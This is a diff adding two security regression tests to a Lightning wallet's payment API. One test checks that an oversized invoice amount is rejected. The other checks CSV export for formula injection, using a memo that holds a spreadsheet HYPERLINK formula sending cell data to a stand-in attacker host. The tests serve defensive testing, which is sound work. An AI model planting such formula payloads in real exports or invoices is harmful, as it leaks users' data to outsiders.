@@ -155,3 +155,40 @@ async def test_review_history_names_come_from_allow_lists(fulmen_db, params):
     r = await client.get("/api/v1/payments", params=params, headers=alice.read_headers)
     assert r.status_code == 400 and r.json()["detail"]
     assert await fulmen_db.balance(alice) == 1000
+
+
+async def test_review_paying_an_invoice_for_more_than_int64_msat_is_400(fulmen_db):
+    import secrets
+    import time
+
+    import bolt11
+    from bolt11 import Bolt11, MilliSatoshi, TagChar, Tags
+
+    client = await fulmen_db.start()
+    alice = await fulmen_db.wallet("alice", sats=1)
+    tags = Tags()
+    tags.add(TagChar.payment_hash, secrets.token_hex(32))
+    tags.add(TagChar.payment_secret, secrets.token_hex(32))
+    tags.add(TagChar.description, "all of it")
+    huge = bolt11.encode(Bolt11(currency="bc", date=int(time.time()), tags=tags,
+                                amount_msat=MilliSatoshi(10**20)), secrets.token_hex(32))
+    r = await client.post("/api/v1/payments", headers=alice.admin_headers, json={"out": True, "bolt11": huge})
+    assert is_clear_4xx(r), (r.status_code, r.text)
+
+
+@pytest.mark.xfail(strict=True, reason="review: CSV export writes formula-like cells as they are")
+async def test_review_csv_export_neutralises_formulas(fulmen):
+    """An outgoing payment's memo is the payee's invoice description: text an
+    outsider chose. Spreadsheet formulas in it must not reach the export as such."""
+    client = await fulmen.start()
+    alice = await fulmen.wallet("alice", sats=10)
+    bob = await fulmen.wallet("bob")
+    inv = await fulmen.invoice(bob, 1, memo='=HYPERLINK("https://evil.example/?"&A1,"refund")')
+    assert (await fulmen.pay(alice, inv["bolt11"])).status_code == 201
+    r = await client.get("/api/v1/payments/export.csv", headers=alice.read_headers)
+    assert r.status_code == 200
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert rows and not rows[0]["memo"].startswith(("=", "+", "-", "@")), rows[0]["memo"]
